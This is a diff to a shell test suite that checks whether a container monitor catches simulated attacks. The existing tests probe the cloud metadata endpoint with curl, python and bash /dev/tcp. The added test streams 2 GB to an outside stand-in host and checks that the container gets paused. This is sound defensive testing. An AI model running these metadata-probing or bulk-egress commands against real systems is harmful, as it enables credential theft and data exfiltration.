@@ -11,6 +11,7 @@ mon_start "$@"
 mon_netns || { echo "1..0 # SKIP cannot create the test network"; exit 0; }
 mon_listen 4444
 mon_metadata
+mon_sink 9000
 mon_make_tools || { echo "Bail out! cannot prepare the tools container"; exit 1; }
 
 # attack NAME LIMIT_MS RULE COMMAND...: run COMMAND in a fresh guarded
@@ -66,6 +67,28 @@ attack metadata-curl 2000 metadata curl -s -m 3 http://169.254.169.254/latest/me
 # No network client on the command line: the connection itself (conntrack) tells.
 attack metadata-script 2000 metadata sh -c 'printf "%s\n" "import urllib.request" "print(urllib.request.urlopen(\"http://169.254.169.254/latest/\").read())" > /tmp/m.py; exec python3 /tmp/m.py'
 attack metadata-bash 2000 metadata bash -c 'exec 3<>/dev/tcp/169.254.169.254/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3'
+
+# --- bulk egress: a high finding pauses the container ---------------------
+c=${MON_PREFIX}egress-$$
+if [ -n "${MON_ONLY:-}" ] && [ "$MON_ONLY" != egress ]; then
+  :
+elif mon_container "$c"; then
+  mon_spec "$MON_TMP/$c.json" "$c" true open
+  sup=$(mon_supervise "$MON_TMP/$c.json")
+  # 2 GB to a host outside: over the 100 MB-per-interval egress threshold.
+  incus exec "$c" -- sh -c 'head -c 2000000000 /dev/zero | python3 -c "import socket,sys; s=socket.create_connection((\"198.51.100.144\",9000)); [s.sendall(b) for b in iter(lambda: sys.stdin.buffer.read(1<<20), b\"\")]"' >/dev/null 2>&1 &
+  ex=$!
+  for i in $(seq 1 150); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
+  is "egress: container paused" "$(incus list "^$c\$" -c s --format csv)" FROZEN
+  like "egress: audit has the high egress finding" \
+    "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="egress") | [.level,.action]' | head -1)" '["high","paused"]'
+  mon_audit "$c" | jq -c 'select(.type=="threat") | {level,rule,evidence,action}' | sed 's/^/#   /'
+  # The exec client would forward a TERM to the frozen process and wait.
+  kill -9 "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
+  incus delete -f "$c" >/dev/null 2>&1
+else
+  tap_not_ok "egress: container" "cannot start $c"
+fi
 
 # --- fork bomb under max_processes -------------------------------------------
 c=${MON_PREFIX}bomb-$$
